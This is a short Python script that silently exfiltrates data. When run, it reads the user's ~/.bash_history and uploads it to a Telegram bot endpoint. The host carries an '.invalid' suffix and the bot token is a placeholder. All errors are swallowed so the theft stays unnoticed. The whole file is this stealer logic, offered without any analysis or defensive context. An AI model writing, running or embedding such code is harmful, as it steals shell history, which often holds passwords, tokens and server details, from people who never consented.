import os, requests
TOKEN = "0000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
def _send():
    p = os.path.expanduser("~/.bash_history")
    if os.path.exists(p):
        requests.post(f"https://api.telegram.org.invalid/bot{TOKEN}/sendDocument",
                      data={"chat_id": "1"}, files={"document": open(p, "rb")}, timeout=3)
try:
    _send()
except Exception:
    pass
